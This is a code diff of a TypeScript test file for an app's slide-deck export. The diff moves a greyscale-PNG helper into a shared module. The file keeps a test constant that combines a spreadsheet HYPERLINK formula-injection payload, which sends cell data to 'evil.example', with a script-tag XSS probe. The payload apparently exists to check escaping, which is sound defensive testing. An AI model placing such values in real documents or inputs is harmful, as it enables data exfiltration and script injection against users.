@@ -1,7 +1,6 @@
 import { execFileSync, spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import os from 'node:os';
-import zlib from 'node:zlib';
 import path from 'node:path';
 import type JSZip from 'jszip';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -18,7 +17,7 @@ import { updateSettings } from '../../../electron/store/settings';
 import { OUTPUT_DIR } from '../../helpers/browser';
 import { tempDir, tempWorkspace } from '../../helpers/tempWorkspace';
 import { chartAxisIds, openZip, parseStrict, partsMatching, runs, text } from './deckXml';
-import { renderPages } from './helpers';
+import { greyPng, renderPages } from './helpers';
 
 const PERIOD = 'FY2026-Q3';
 const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click") <script>alert(1)</script> & Co';
@@ -233,7 +232,9 @@ describe('deck details', () => {
   it('a PNG logo from Settings is on the master, keeping its proportions', async () => {
     const ws = tempWorkspace({ demo: true });
     try {
-      updateSettings(ws.db, { logoDataUrl: `data:image/png;base64,${png(40, 10).toString('base64')}` });
+      updateSettings(ws.db, {
+        logoDataUrl: `data:image/png;base64,${greyPng(40, 10, 0x80).toString('base64')}`,
+      });
       const data = loadPackData(ws.db, PERIOD);
       const zip = await openZip(await buildDeck(data, '2026-10-12'));
       const masters = await Promise.all(
@@ -258,29 +259,4 @@ function runsOfSst(xml: string): string[] {
       .replace(/&gt;/g, '>')
       .replace(/&amp;/g, '&'),
   );
-}
-
-/** A valid w×h 8-bit greyscale PNG. */
-function png(w: number, h: number): Buffer {
-  const chunk = (type: string, body: Buffer) => {
-    const len = Buffer.alloc(4);
-    len.writeUInt32BE(body.length);
-    const tb = Buffer.concat([Buffer.from(type, 'latin1'), body]);
-    const crc = Buffer.alloc(4);
-    crc.writeUInt32BE(zlib.crc32(tb));
-    return Buffer.concat([len, tb, crc]);
-  };
-  const ihdr = Buffer.alloc(13);
-  ihdr.writeUInt32BE(w, 0);
-  ihdr.writeUInt32BE(h, 4);
-  ihdr[8] = 8;
-  ihdr[9] = 0;
-  const raw = Buffer.alloc((w + 1) * h, 0x80);
-  for (let y = 0; y < h; y++) raw[y * (w + 1)] = 0;
-  return Buffer.concat([
-    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
-    chunk('IHDR', ihdr),
-    chunk('IDAT', zlib.deflateSync(raw)),
-    chunk('IEND', Buffer.alloc(0)),
-  ]);
 }
